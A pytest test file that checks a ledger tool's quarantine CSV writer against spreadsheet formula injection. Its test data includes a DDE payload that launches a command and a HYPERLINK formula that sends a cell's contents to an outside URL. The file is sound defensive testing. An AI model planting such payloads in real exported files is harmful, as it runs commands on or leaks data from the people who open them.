"""Refused rows on disk: one CSV per table, and no cell that a spreadsheet takes for a formula."""

import csv
from pathlib import Path

import pandas as pd
import pytest

from ledger.reading.quarantine import spreadsheet_safe, write_quarantine
from ledger.reading.refusals import REFUSED_COLUMNS

FORMULAS = [
    "=1+1",
    "+1",
    "-1",
    "@SUM(A1)",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.org/?x="&A1,"click")',
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\tplain after a tab",
    "  =1+1",
    "\u00a0=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
    "﹦1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\u202e=1+1",
    "\x1b=1+1",
    "=",
]
# Safe between quotes and commas; not where semicolons part columns, or where a quote before them was lost.
FORMULAS_INSIDE = {
    "x;=1+1": "x;'=1+1",
    "x; @SUM(A1)": "x;' @SUM(A1)",
    'x";"=1+1': 'x";\'"=1+1',
    "x\r=1+1": "x\r'=1+1",
    "x\r\n-1": "x\r\n'-1",
    "=1;=2": "'=1;'=2",
}
HARMLESS = [
    "",
    "plain",
    "a=b",
    "1-1",
    "'=1+1",
    "Müller & Söhne",
    "50 %",
    "x; y",
    'say "=1"',
    "a,=1",
    "(=1)",
]


def refused(**values: list[str]) -> pd.DataFrame:
    size = len(next(iter(values.values())))
    return pd.DataFrame({name: values.get(name, [name] * size) for name in REFUSED_COLUMNS}, dtype="str")


def cells(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8", newline="") as file:
        return list(csv.reader(file))


@pytest.mark.parametrize("formula", FORMULAS)
def test_no_cell_of_the_file_is_a_formula(tmp_path: Path, formula: str) -> None:
    write_quarantine([refused(table=["payments"], value=[formula], record=[formula], row=[formula])], tmp_path)
    header, row = cells(tmp_path / "payments.csv")
    assert header == list(REFUSED_COLUMNS)
    assert [row[header.index(name)] for name in ("value", "record", "row")] == [f"'{formula}"] * 3


@pytest.mark.parametrize("text", HARMLESS)
def test_harmless_text_stays_as_it_is_and_in_its_cell(tmp_path: Path, text: str) -> None:
    write_quarantine([refused(table=["payments"], value=[text])], tmp_path)
    assert cells(tmp_path / "payments.csv")[1][REFUSED_COLUMNS.index("value")] == text


@pytest.mark.parametrize("formula", FORMULAS_INSIDE)
def test_no_formula_begins_inside_a_cell_where_semicolons_part_columns(tmp_path: Path, formula: str) -> None:
    write_quarantine([refused(table=["payments"], value=[formula])], tmp_path)
    assert cells(tmp_path / "payments.csv")[1][REFUSED_COLUMNS.index("value")] == FORMULAS_INSIDE[formula]


def test_a_line_break_inside_a_cell_is_quoted_so_that_it_starts_no_new_cell(tmp_path: Path) -> None:
    write_quarantine([refused(table=["payments"], value=["x\r=1+1"])], tmp_path)
    assert b'"x\r\'=1+1"' in (tmp_path / "payments.csv").read_bytes()


def test_one_file_per_table_and_none_left_from_an_earlier_run(tmp_path: Path) -> None:
    write_quarantine([refused(table=["invoices", "payments", "invoices"])], tmp_path)
    assert sorted(path.name for path in tmp_path.iterdir()) == ["invoices.csv", "payments.csv"]
    assert len(cells(tmp_path / "invoices.csv")) == 3
    write_quarantine([refused(table=["payments"])], tmp_path)
    assert [path.name for path in tmp_path.iterdir()] == ["payments.csv"]


def test_numbers_dates_and_missing_cells_stay_and_all_kinds_of_text_are_made_safe() -> None:
    frame = pd.DataFrame(
        {
            "amount": [-1.5, 2.0],
            "cents": pd.array([-1, None], dtype="Int64"),
            "day": pd.to_datetime(["2024-01-01", None]),
            "text": pd.Series(["=1", None], dtype="str"),
            "mixed": pd.Series(["-x", -1], dtype="object"),
            "category": pd.Categorical(["@a", "b"]),
        }
    )
    safe = spreadsheet_safe(frame)
    pd.testing.assert_frame_equal(safe[["amount", "cents", "day"]], frame[["amount", "cents", "day"]])
    assert safe["text"][0] == "'=1" and pd.isna(safe["text"][1])
    assert safe["mixed"].tolist() == ["'-x", -1]
    assert safe["category"].tolist() == ["'@a", "b"]
